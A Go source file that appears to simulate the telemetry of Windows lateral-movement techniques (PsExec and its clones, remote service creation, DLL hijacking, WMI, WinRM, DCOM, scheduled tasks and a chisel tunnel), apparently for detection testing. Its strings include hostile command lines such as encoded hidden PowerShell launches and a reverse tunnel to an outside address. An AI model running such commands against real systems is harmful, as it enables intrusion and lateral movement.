package simulate

import "time"

// The remote service starts. Order and gaps follow public recordings of real
// ones: connection, logon, registration, and the child half a second after.

func rpcServiceStart(p *play) {
	tool := p.client(sys32+"sc.exe", `sc.exe \\`+p.victim.name+` start Updater`)
	p.rpc(tool, p.victim.services, 0)
	p.wait(150, 600)
	c := p.startService("Updater", `C:\ProgramData\Updater\updater.exe`, `C:\ProgramData\Updater\updater.exe --service`, "")
	p.callHome(c)
	p.look(c)
}

func rpcServiceCreate(p *play) { rpcCreate(p, 0) }

func rpcServiceReversed(p *play) {
	rpcCreate(p, time.Duration(1500+p.rng.IntN(2500))*time.Millisecond)
}

// rpcCreate creates and starts a service whose command is a shell. lag is how
// much later the victim's sensors stamp the connection.
func rpcCreate(p *play, lag time.Duration) {
	tool := p.client(sys32+"sc.exe", `sc.exe \\`+p.victim.name+` create`)
	_, session := p.rpc(tool, p.victim.services, lag)
	p.wait(20, 80)
	name := p.word(8)
	p.createService(name, p.encoded(), session)
	p.wait(40, 300)
	c := p.startService(name, imgCmd, `C:\Windows\system32\cmd.exe /C start /b powershell.exe -noP -sta -w 1 -enc `+p.word(48), signedMS)
	p.wait(20, 120)
	shell := p.spawn(c, sys32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -noP -sta -w 1 -enc `+p.word(48), c.user, c.logon, signedMS)
	p.wait(30, 60)
	p.exit(c)
	p.callHome(shell)
	p.look(shell)
}

func smbServiceStart(p *play) {
	c, session := p.smb(nil)
	p.wait(10, 60)
	p.copyTo(c, session, "ADMIN$", `C:\Windows`, p.word(8)+".exe")
	p.wait(20, 100)
	p.openPipe(c, session, "svcctl", "ntsvcs")
	p.wait(20, 80)
	name := p.word(8)
	p.createService(name, p.encoded(), session)
	p.wait(40, 400)
	child := p.startService(name, imgCmd, `C:\Windows\system32\cmd.exe /C start /b powershell.exe -noP -sta -w 1 -enc `+p.word(48), signedMS)
	p.look(child)
}

func dllHijack(p *play) {
	c, session := p.smb(nil)
	p.wait(10, 60)
	p.copyTo(c, session, "ADMIN$", `C:\Windows`, `System32\wlbsctrl.dll`)
	p.wait(20_000, 40_000)
	tool := p.client(sys32+"sc.exe", `sc.exe \\`+p.victim.name+` start IKEEXT`)
	p.rpc(tool, p.victim.services, 0)
	p.wait(300, 700)
	host := p.startService("IKE and AuthIP IPsec Keying Modules", imgSvchost, sys32+"svchost.exe -k netsvcs -p -s IKEEXT", signedMS)
	p.wait(5, 30)
	p.do(act{kind: imageLoad, host: p.victim, proc: host, path: sys32 + "wlbsctrl.dll"})
	p.callHome(host)
	p.look(host)
}

func networkLogonService(p *play) {
	c, session := p.smb(nil)
	p.wait(10, 60)
	p.openPipe(c, session, "svcctl", "ntsvcs")
	p.wait(100, 900)
	p.createService("WinHelpSvc", `C:\Windows\Temp\winhelp.exe`, session)
}

func serviceChanged(p *play) {
	h := p.victim
	tool := p.client(sys32+"sc.exe", `sc.exe \\`+h.name+` config Fax binPath= C:\Windows\Temp\fax.exe start= demand`)
	_, session := p.rpc(tool, h.services, 0)
	p.wait(100, 300)
	key := serviceKey + "Fax"
	p.do(act{kind: registrySet, host: h, proc: h.services, user: p.user, logon: session, path: key, name: "ImagePath",
		old: `%systemroot%\system32\fxssvc.exe`, value: `C:\Windows\Temp\fax.exe`})
	p.do(act{kind: registrySet, host: h, proc: h.services, user: p.user, logon: session, path: key, name: "Start",
		old: "4", value: "DWORD (0x00000003)"})
	p.do(act{kind: serviceConfig, host: h, proc: h.services, user: p.user, name: "Fax", path: "Fax", old: "disabled", value: "demand start"})
	p.wait(2000, 6000)
	p.rpc(tool, h.services, 0)
	p.wait(100, 500)
	p.look(p.startService("Fax", `C:\Windows\Temp\fax.exe`, `C:\Windows\Temp\fax.exe`, ""))
}

func loopbackTunnel(p *play) {
	h := p.victim
	relay := p.spawn(h.explorer, `C:\Users\Public\chisel.exe`, `chisel.exe client 198.51.100.23:443 R:49664:127.0.0.1:49664`, h.explorer.user, h.explorer.logon, "")
	p.callHome(relay)
	p.wait(2000, 9000)
	real := p.source
	self := *h
	self.ip = p.pick("127.0.0.1", "::1")
	p.source = &self
	c := conn{srcIP: self.ip, srcPort: h.newPort(p.rng), dstIP: self.ip, dstPort: p.dynamicPort(h.services)}
	p.do(act{kind: connection, host: h, proc: relay, conn: c})
	c.inbound = true
	p.do(act{kind: connection, host: h, proc: h.services, conn: c})
	p.wait(8, 25)
	session := p.logon(c, 3)
	p.source = real
	p.wait(20, 80)
	name := p.word(8)
	p.createService(name, `C:\Windows\Temp\`+name+`.exe`, session)
	p.wait(100, 500)
	p.look(p.startService(name, `C:\Windows\Temp\`+name+`.exe`, `C:\Windows\Temp\`+name+`.exe`, ""))
}

func psexecRun(p *play) {
	h := p.victim
	tool := p.client(`C:\Users\`+p.user.name+`\Downloads\PsExec64.exe`, `PsExec64.exe \\`+h.name+` -s cmd.exe`)
	c, session := p.smb(tool)
	p.wait(20, 80)
	p.copyTo(c, session, "ADMIN$", `C:\Windows`, "PSEXESVC.exe")
	p.wait(20, 80)
	p.openPipe(c, session, "svcctl", "ntsvcs")
	p.wait(20, 80)
	p.createService("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, session)
	p.wait(40, 200)
	svc := p.startService("PSEXESVC", `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, "Microsoft Corporation")
	p.pipes(c, session, svc, "PSEXESVC", p.source.name)
	p.look(p.spawn(svc, imgCmd, `"cmd.exe"`, svc.user, svc.logon, signedMS))
}

// pipes are the service's own: one for control, three for the program's streams.
func (p *play) pipes(c conn, session uint64, svc *process, name, peer string) {
	p.do(act{kind: pipeCreate, host: p.victim, proc: svc, name: `\` + name})
	p.wait(10, 60)
	p.openPipe(c, session, name, name)
	p.wait(10, 60)
	for _, s := range []string{"stdin", "stdout", "stderr"} {
		pipe := name + "-" + peer + "-4120-" + s
		p.do(act{kind: pipeCreate, host: p.victim, proc: svc, name: `\` + pipe})
		p.openPipe(c, session, pipe, pipe)
	}
	p.wait(10, 60)
}

// psexecRenamed is "psexec -r": service, file and pipes have another name, the
// version resource still says whose they are.
func psexecRenamed(p *play) {
	c, session := p.smb(nil)
	p.wait(20, 80)
	p.copyTo(c, session, "ADMIN$", `C:\Windows`, "svchelp.exe")
	p.wait(20, 80)
	p.openPipe(c, session, "svcctl", "ntsvcs")
	p.wait(20, 80)
	p.createService("svchelp", `%SystemRoot%\svchelp.exe`, session)
	p.wait(40, 200)
	svc := p.startAs("svchelp", `C:\Windows\svchelp.exe`, `C:\Windows\svchelp.exe`, "Microsoft Corporation", "psexesvc.exe")
	p.pipes(c, session, svc, "svchelp", p.source.name)
	p.look(p.spawn(svc, imgCmd, `"cmd.exe"`, svc.user, svc.logon, signedMS))
}

func psexecClone(p *play) {
	h := p.victim
	clone := [][3]string{
		{"RemComSvc", `RemComSvc.exe`, "RemCom_communicaton"},
		{"PAExec-4120-" + p.source.name, `PAExec-4120-` + p.source.name + `.exe`, "PAExec-4120-" + p.source.name},
		{"csexecsvc", `csexecsvc.exe`, "csexecsvc"},
	}[p.rng.IntN(3)]
	c, session := p.smb(nil)
	p.wait(20, 80)
	p.copyTo(c, session, "ADMIN$", `C:\Windows`, clone[1])
	p.wait(20, 80)
	p.openPipe(c, session, "svcctl", "ntsvcs")
	p.wait(20, 80)
	p.createService(clone[0], `%SystemRoot%\`+clone[1], session)
	p.wait(40, 200)
	svc := p.startService(clone[0], `C:\Windows\`+clone[1], `C:\Windows\`+clone[1], "")
	p.do(act{kind: pipeCreate, host: h, proc: svc, name: `\` + clone[2]})
	p.wait(10, 60)
	p.openPipe(c, session, clone[2], clone[2])
	p.wait(10, 60)
	p.look(p.spawn(svc, imgCmd, `cmd.exe`, svc.user, svc.logon, signedMS))
}

// What an intruder uses in place of services.

func remoteTask(p *play) {
	h := p.victim
	tool := p.client(sys32+"schtasks.exe", `schtasks.exe /create /s `+h.name+` /tn Updater /sc once /st 00:00 /ru SYSTEM`)
	_, session := p.rpc(tool, h.svcTask, 0)
	p.wait(30, 120)
	p.do(act{kind: taskNew, host: h, proc: h.svcTask, user: p.user, logon: session, name: `\Updater`, value: `C:\Windows\Temp\u.exe`})
	p.do(act{kind: registrySet, host: h, proc: h.svcTask, path: `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Updater`, name: "Id", value: "{" + h.id + "}"})
	p.do(act{kind: fileWrite, host: h, proc: h.svcTask, path: sys32 + `Tasks\Updater`})
	p.wait(800, 3000)
	c := p.spawn(h.svcTask, `C:\Windows\Temp\u.exe`, `C:\Windows\Temp\u.exe`, systemAccount(), 0x3e7, "")
	p.callHome(c)
	p.look(c)
}

func remoteWMI(p *play) {
	h := p.victim
	tool := p.client(sys32+`wbem\WMIC.exe`, `wmic.exe /node:`+h.name+` process call create "cmd.exe /c whoami"`)
	_, session := p.rpc(tool, p.wmiService(), 0)
	p.wait(60, 300)
	prov := p.spawn(h.svcDcom, sys32+`wbem\WmiPrvSE.exe`, sys32+`wbem\wmiprvse.exe -secured -Embedding`, networkService(), 0x3e4, signedMS)
	p.wait(60, 400)
	p.look(p.spawn(prov, imgCmd, `cmd.exe /c whoami > \\127.0.0.1\ADMIN$\__1`, p.user, session, signedMS))
}

// wmiService is the svchost that hosts WMI; started when first needed, before the play.
func (p *play) wmiService() *process {
	h := p.victim
	h.procs++
	return &process{host: h, parent: h.services, pid: 2880, start: h.boot + 9e9, image: imgSvchost,
		cmd: sys32 + "svchost.exe -k netsvcs -p -s Winmgmt", user: systemAccount(), logon: 0x3e7, signer: signedMS, number: 40}
}

func remoteWinRM(p *play) {
	h := p.victim
	tool := p.client(sys32+"winrs.exe", `winrs.exe -r:`+h.name+` cmd`)
	c := p.connect(tool, h.system, 5985, 0)
	p.wait(20, 80)
	session := p.logon(c, 3)
	p.wait(100, 500)
	shell := p.spawn(h.svcDcom, sys32+"winrshost.exe", sys32+`winrshost.exe -Embedding`, p.user, session, signedMS)
	p.wait(200, 900)
	p.look(p.spawn(shell, imgCmd, `cmd.exe`, p.user, session, signedMS))
}

func remoteDCOM(p *play) {
	h := p.victim
	tool := p.client(sys32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -c [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','`+h.name+`'))`)
	c := p.connect(tool, h.svcRPC, 135, 0)
	p.wait(8, 25)
	session := p.logon(c, 3)
	p.wait(80, 400)
	mmc := p.spawn(h.svcDcom, sys32+"mmc.exe", sys32+`mmc.exe -Embedding`, p.user, session, signedMS)
	p.wait(60, 300)
	p.connect(tool, mmc, h.newPort(p.rng), 0)
	p.wait(200, 900)
	p.look(p.spawn(mmc, imgCmd, `"C:\Windows\System32\cmd.exe" /c calc.exe`, p.user, session, signedMS))
}
